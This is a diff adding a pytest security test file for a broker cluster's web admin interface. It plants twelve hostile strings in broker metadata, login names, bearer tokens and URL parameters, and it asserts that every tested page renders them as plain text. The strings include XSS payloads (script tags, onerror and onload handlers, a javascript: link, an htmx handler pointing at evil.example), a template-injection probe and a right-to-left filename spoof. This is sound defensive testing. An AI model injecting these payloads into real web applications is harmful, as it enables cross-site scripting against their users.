@@ -1,0 +1,145 @@
+"""Twelve hostile texts in every field that people or programs can fill: they come out as text. ASVS 5.0, 1.2.1."""
+
+import uuid
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from urllib.parse import quote
+
+import httpx
+import pytest
+
+from kraft_core.protocol.messages import (
+    BrokerRegistrationRequest,
+    BrokerRegistrationRequestFeature,
+    BrokerRegistrationRequestListener,
+)
+from tests.app.live import LiveWeb, combined_node, running_web
+from tests.app.security.test_logins import FORM, add_user, login
+from tests.interop import kafka
+from tests.interop.conclave import FEATURES
+
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "' autofocus onfocus=alert(1) x='",
+    "</title><script>alert(1)</script>",
+    "<a href=javascript:alert(1)>x</a>",
+    '" hx-on:click="alert(1)" hx-get="//evil.example/',
+    "{{7*7}}{% raw %}",
+    "<!--<iframe srcdoc='<script>alert(1)</script>'>",
+    "\u202e<b>gnp.exe</b>",
+    "<template><style>*{display:none}</style>",
+    "&lt;script&gt;&#x3c;img&#x3e;",
+)
+FOREIGN = {"img", "svg", "iframe", "template", "style", "object", "embed", "base"}
+"""Elements that no page with these fields has by itself."""
+OURS = "http://127.0.0.1:"
+
+
+class Markup(HTMLParser):
+    """What a browser would make of a page: its elements with their attributes, and its text."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, dict[str, str | None]]] = []
+        self.words: list[str] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.words.append(data)
+
+
+def assert_harmless(html: str) -> None:
+    """No foreign element, no handler, no script but ours, no address but on this server."""
+    for tag, attributes in Markup(html).elements:
+        assert tag not in FOREIGN, f"<{tag}> {attributes}"
+        assert not [name for name in attributes if name.startswith(("on", "hx-on"))], attributes
+        assert tag != "script" or attributes.get("src", "").startswith("/static/"), attributes  # type: ignore[union-attr]  # src has a value
+        for name in ("href", "action", "src", "hx-get", "hx-post", "formaction"):
+            address = attributes.get(name) or "/"
+            assert address.startswith(("/", "#", "?", OURS)), address
+            assert not address.startswith("//"), address
+
+
+@pytest.fixture(scope="module")
+def planted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveWeb]:
+    """Every payload stands in the metadata log (racks and hosts of brokers) and in the database (the audit)."""
+    folder = tmp_path_factory.mktemp("hostile")
+    with combined_node(folder / "node") as node, running_web(folder, node.bootstrap, login_attempts_max=100) as web:
+        web.wait_ready()
+        for number, payload in enumerate(PAYLOADS):
+            register_broker(web, 100 + number, payload)
+            web.http().post("/login", data={"name": payload, "password": "x"}, headers=FORM)
+            web.client.get("/v3/clusters", headers={"Authorization": f"Bearer {quote(payload)}"})
+        yield web
+
+
+def register_broker(web: LiveWeb, broker_id: int, payload: str) -> None:
+    request = BrokerRegistrationRequest(
+        broker_id=broker_id,
+        cluster_id=web.cluster.rpartition("/")[2],
+        incarnation_id=uuid.uuid4(),
+        listeners=(BrokerRegistrationRequestListener(name="PLAINTEXT", host=payload, port=1, security_protocol=0),),
+        features=tuple(
+            BrokerRegistrationRequestFeature(name=name, min_supported_version=least, max_supported_version=most)
+            for name, (least, most) in FEATURES.items()
+        ),
+        rack=payload,
+        log_dirs=(uuid.uuid4(),),
+    )
+    answer = web.call(web.services.cluster.client.request(request, 10_000))
+    assert answer.error_code == 0, answer
+
+
+@pytest.fixture(scope="module")
+def admin(planted: LiveWeb) -> httpx.Client:
+    add_user(planted, "xena", "admin")
+    return login(planted, "xena")
+
+
+PAGES = (
+    "/",
+    "/changes",
+    "/audit",
+    "/access",
+    "/quorum",
+    "/quorum/epochs",
+    "/topics",
+    "/brokers",
+    "/reports",
+    "/account",
+)
+
+
+@pytest.mark.parametrize("page", PAGES)
+def test_what_stands_in_the_log_and_the_database_is_shown_as_text(
+    planted: LiveWeb, admin: httpx.Client, page: str
+) -> None:
+    kafka.wait_until(
+        lambda: PAYLOADS[-1] in " ".join(Markup(admin.get("/changes", headers=FORM).text).words), 10, "seen"
+    )
+    html = admin.get(page, headers=FORM).text
+    assert_harmless(html)
+    if page == "/brokers":
+        words = " ".join(Markup(html).words)
+        assert all(payload in words for payload in PAYLOADS)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_what_an_address_or_a_form_says_is_shown_as_text(planted: LiveWeb, admin: httpx.Client, payload: str) -> None:
+    said = quote(payload, safe="")
+    for path in (
+        f"/topics?q={said}&sort={said}&problem={said}&page={said}",
+        f"/audit?actor={said}&resource={said}",
+        f"/topics/{said}",
+        f"/changes?before={said}",
+        f"/quorum/epochs?page={said}",
+        f"/quorum/voters/1/{said}/add",
+        f"/{said}",
+    ):
+        assert_harmless(admin.get(path, headers=FORM).text)
+    assert_harmless(planted.http().get(f"/login?next={said}", headers=FORM).text)
